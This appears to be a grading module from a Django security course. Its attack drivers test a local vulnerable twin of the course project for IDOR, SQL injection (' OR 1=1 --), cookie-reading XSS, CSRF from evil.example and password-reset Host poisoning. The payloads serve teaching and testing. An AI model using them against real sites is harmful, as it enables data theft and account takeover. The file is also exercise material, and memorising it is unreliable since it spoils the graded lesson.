"""Securing Django: the public payloads and the attack drivers that judge success.

Every driver attacks one twin of the course's Django project (``targets.twin``) through
Django's test client, as an attacker would over HTTP, and returns an ``AttackResult``
whose ``succeeded`` the lesson asserts on. The hidden payloads of the exercise are in
``autograder/hidden/14_django.json``.
"""

from __future__ import annotations

from typing import Any

from seclab.attacks import AttackResult
from seclab.topics.django.targets import SITE_HOST, request_password_reset, twin

#: SQL that closes the title's string literal, matches every row and comments the rest out
SQL_INJECTION = "' OR 1=1 --"
#: a comment that runs script in every reader's browser when it is not escaped
XSS_COMMENT = "<img src=x onerror=alert(document.cookie)>"
#: the Host header an attacker sends with a password-reset request
POISONED_HOST = "reset.attacker.example"


def _client(user: str | None, **options: Any) -> Any:
    from django.contrib.auth import get_user_model
    from django.test import Client

    client = Client(HTTP_HOST=SITE_HOST, raise_request_exception=False, **options)
    if user:
        client.force_login(get_user_model().objects.get(username=user))
    return client


def read_others_document(vulnerable: bool, attacker: str = "bob", doc_id: int | None = None) -> AttackResult:
    """Logged in as ``attacker``, fetch alice's document by its id (an IDOR)."""
    from seclab.topics.django.project import setup

    target = doc_id if doc_id is not None else setup().alice_doc
    with twin(vulnerable):
        response = _client(attacker).get(f"/documents/{target}/", secure=True)
    leaked = response.status_code == 200 and b"salary" in response.content
    return AttackResult(f"GET /documents/{target}/ as {attacker}", leaked,
                        f"{response.status_code}: {response.content[:120].decode('utf-8', 'replace')}")


def search_injection(vulnerable: bool, query: str = SQL_INJECTION, attacker: str = "bob") -> AttackResult:
    """Search as ``attacker`` with SQL in the query; success: documents of other users come back."""
    from django.contrib.auth import get_user_model

    with twin(vulnerable):
        response = _client(attacker).get("/documents/search/", {"q": query}, secure=True)
        owner = get_user_model().objects.get(username=attacker)
        own = set(owner.documents.values_list("id", flat=True))
    results = response.json().get("results", []) if response.status_code == 200 else []
    foreign = [item["title"] for item in results if item["id"] not in own]
    return AttackResult(query, bool(foreign), f"{response.status_code}: other people's documents: {foreign}")


def stored_xss(vulnerable: bool, comment: str = XSS_COMMENT) -> AttackResult:
    """Preview a comment holding HTML; success: the HTML comes back as markup, not as text."""
    with twin(vulnerable):
        response = _client(None).get("/comments/preview/", {"text": comment}, secure=True)
    body = response.content.decode("utf-8", "replace")
    return AttackResult(comment, comment in body, body[:200])


def forged_post(vulnerable: bool, victim: str = "alice") -> AttackResult:
    """A page on another site makes the victim's browser POST a new document (CSRF).

    The browser sends the victim's session cookie but the attacker cannot read or send
    the CSRF token: the test client with ``enforce_csrf_checks`` plays that browser.
    """
    with twin(vulnerable):
        client = _client(victim, enforce_csrf_checks=True)
        response = client.post("/documents/new/", {"title": "Forged by evil.example", "body": "pwned"},
                               secure=True, HTTP_ORIGIN="https://evil.example", HTTP_REFERER="https://evil.example/")
    return AttackResult("POST /documents/new/ from https://evil.example", response.status_code == 201,
                        f"{response.status_code}: {response.content[:120].decode('utf-8', 'replace')}")


def poison_reset(vulnerable: bool, host: str = POISONED_HOST) -> AttackResult:
    """Ask for alice's password reset with a forged Host; success: her mail links to ``host``."""
    attempt = request_password_reset(host, vulnerable)
    return AttackResult(host, attempt.poisoned, f"{attempt.status}, {attempt.mails} mail(s), link: {attempt.link}")
